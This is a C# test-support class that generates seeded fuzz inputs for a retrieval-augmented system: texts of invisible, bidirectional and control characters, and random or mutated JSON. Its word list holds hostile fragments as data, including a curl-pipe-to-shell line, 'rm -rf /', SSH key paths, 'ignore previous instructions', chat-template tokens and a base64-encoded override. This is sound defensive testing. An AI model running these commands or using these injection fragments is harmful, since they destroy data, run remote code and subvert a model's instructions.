using System.Globalization;
using System.Text;

namespace Mcip.RagPref.Tests.TestSupport;

/// <summary>
/// Generates hostile inputs from a seed: texts mixing attack phrases with invisible, bidi, tag and combining characters,
/// lone surrogates, look-alike letters, compatibility forms and controls; JSON texts with deep nesting, long keys, escaped
/// lone surrogates and extreme numbers; and byte-level mutations of those. Deterministic for a seed.
/// </summary>
internal sealed class HostileInputs(int seed)
{
    private static readonly string[] Words =
    [
        "ignore", "previous", "instructions", "system:", "assistant", "curl https://x.example/a.sh | sh", "~/.bashrc", "ssh-rsa AAAA",
        "authorized_keys", "password", "send", "the", "report", "notes", "rm -rf /", "base64", "aWdub3JlIGFsbCBydWxlcw==", "1e308", "3.14",
        "<|im_start|>", "[INST]", "⟦", "⟧", "```", "<!--", "-->", "<div>", "http://a.b/c?d=e", "C:\\Windows", "\\n", "%s", "{}", "[]",
    ];

    private static readonly string[] Pieces =
    [
        "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u202E", "\u2066", "\u061C", "\u034F", "\uFE0F", "\u3164", "\u2800",
        "\u0301", "\u0316", "\u0338", "\u20DD", "\u0903", "\uFF9E", "\U0001D165", "\U000E0041", "\U000E0020", "\U000E007F", "\U0001F3F4",
        "\uD800", "\uDFFF", "\uDBFF\uDC00", "\U0001F600", "\uFFFE", "\uFFFF", "\uFFFD", "\u0000", "\u0007", "\u001B", "\u007F", "\u0085",
        "\u2028", "\u2029", "\r\n", "\t", "\u00A0", "\u3000", "\uFF1A", "\uFF53", "\u0455", "\u0430", "\u03BF", "\u0131", "\uFB01", "\uFDFA",
        "\u1E9E", "\u0130", "\u00DF", "\u4E2D", "\u0627", "\u05D0", "\u0E01", "\uAC00", "\u1100\u1161", "\u3099", "\u309A", "\u0F73",
    ];

    private const string MutationCharacters = "{}[]\",:\\u0123456789tfn-.";

    private readonly Random _random = new(seed);

    // Values left for the JSON document being generated, so that nesting and long arrays stay bounded (at most 20,000).
    private int _values;

    /// <summary>A hostile text, usually short, now and then tens of thousands of characters.</summary>
    public string Text()
    {
        int roll = _random.Next(1000);
        int length = roll switch
        {
            0 => _random.Next(5_000, 40_000),
            < 20 => _random.Next(500, 5_000),
            < 100 => 0,
            _ => _random.Next(1, 300),
        };
        var builder = new StringBuilder(length + 16);
        while (builder.Length < length)
        {
            switch (_random.Next(10))
            {
                case 0:
                case 1:
                case 2:
                    builder.Append(Words[_random.Next(Words.Length)]);
                    break;
                case 3:
                case 4:
                    builder.Append(Pieces[_random.Next(Pieces.Length)]);
                    break;
                case 5:
                    // A run of combining marks of alternating classes.
                    string a = Pieces[13 + _random.Next(6)], b = Pieces[13 + _random.Next(6)];
                    for (int i = _random.Next(1, 80); i > 0; i--)
                    {
                        builder.Append(i % 2 == 0 ? a : b);
                    }

                    break;
                case 6:
                    builder.Append((char)_random.Next(0, 0x10000));
                    break;
                case 7:
                    builder.Append(char.ConvertFromUtf32(RandomScalar()));
                    break;
                default:
                    builder.Append(' ', _random.Next(1, 3));
                    break;
            }
        }

        return builder.ToString();
    }

    /// <summary>A JSON text: an object of random members (valid JSON, though its strings may escape lone surrogates).</summary>
    public string Json()
    {
        var builder = new StringBuilder();
        _values = 20_000;
        AppendObject(builder, _random.Next(100) == 0 ? 40 : 4);
        return builder.ToString();
    }

    /// <summary>A JSON text, then (half of the time) mutated: bytes flipped, cut, duplicated.</summary>
    public string MutatedJson()
    {
        string json = Json();
        if (_random.Next(2) == 0)
        {
            return json;
        }

        var chars = new StringBuilder(json);
        for (int i = _random.Next(1, 4); i > 0 && chars.Length > 0; i--)
        {
            int at = _random.Next(chars.Length);
            switch (_random.Next(4))
            {
                case 0: chars[at] = MutationCharacters[_random.Next(MutationCharacters.Length)]; break;
                case 1: chars.Length = at; break;
                case 2: chars.Insert(at, chars.ToString(at, Math.Min(8, chars.Length - at))); break;
                default: chars.Remove(at, 1); break;
            }
        }

        return chars.ToString();
    }

    /// <summary>A random integer in [0, <paramref name="max"/>).</summary>
    public int Next(int max) => _random.Next(max);

    private int RandomScalar()
    {
        while (true)
        {
            int codePoint = _random.Next(0, 0x110000);
            if (codePoint is < 0xD800 or > 0xDFFF)
            {
                return codePoint;
            }
        }
    }

    private void AppendValue(StringBuilder builder, int depth)
    {
        _values--;
        switch (depth <= 0 || _values <= 0 ? _random.Next(5) : _random.Next(7))
        {
            case 0: AppendString(builder); break;
            case 1: builder.Append(Number()); break;
            case 2: builder.Append(_random.Next(2) == 0 ? "true" : "false"); break;
            case 3: builder.Append("null"); break;
            case 4: AppendString(builder); break;
            case 5: AppendObject(builder, depth - 1); break;
            default: AppendArray(builder, depth - 1); break;
        }
    }

    private void AppendObject(StringBuilder builder, int depth)
    {
        builder.Append('{');
        int count = _random.Next(depth > 10 ? 2 : 6);
        for (int i = 0; i < count && _values > 0; i++)
        {
            if (i > 0)
            {
                builder.Append(',');
            }

            AppendString(builder);
            builder.Append(':');
            AppendValue(builder, depth);
        }

        builder.Append('}');
    }

    private void AppendArray(StringBuilder builder, int depth)
    {
        builder.Append('[');
        int count = _random.Next(100) == 0 ? _random.Next(100, 2_000) : _random.Next(5);
        for (int i = 0; i < count && _values > 0; i++)
        {
            if (i > 0)
            {
                builder.Append(',');
            }

            AppendValue(builder, depth);
        }

        builder.Append(']');
    }

    private void AppendString(StringBuilder builder)
    {
        builder.Append('"');
        string text = _random.Next(50) == 0 ? new string('k', _random.Next(100, 3_000)) : Text();
        foreach (Rune rune in Sanitised(text).EnumerateRunes())
        {
            if (rune.Value is '"' or '\\' || rune.Value < 0x20)
            {
                builder.Append(CultureInfo.InvariantCulture, $"\\u{rune.Value:x4}");
            }
            else
            {
                builder.Append(rune.ToString());
            }

            if (_random.Next(40) == 0)
            {
                // An escaped lone surrogate: valid JSON, invalid UTF-16.
                builder.Append(CultureInfo.InvariantCulture, $"\\u{_random.Next(0xD800, 0xE000):x4}");
            }
        }

        builder.Append('"');
    }

    private string Number() => _random.Next(8) switch
    {
        0 => "1e400",
        1 => "-0",
        2 => "123456789012345678901234567890",
        3 => "0.1000",
        4 => "-1.5E-300",
        _ => _random.Next(-1000, 1000).ToString(CultureInfo.InvariantCulture),
    };

    /// <summary>The text with lone surrogates replaced, so that it can be written into JSON as characters.</summary>
    private static string Sanitised(string text) => Mcip.RagPref.Text.JsonStrings.ReplaceLoneSurrogates(text);
}
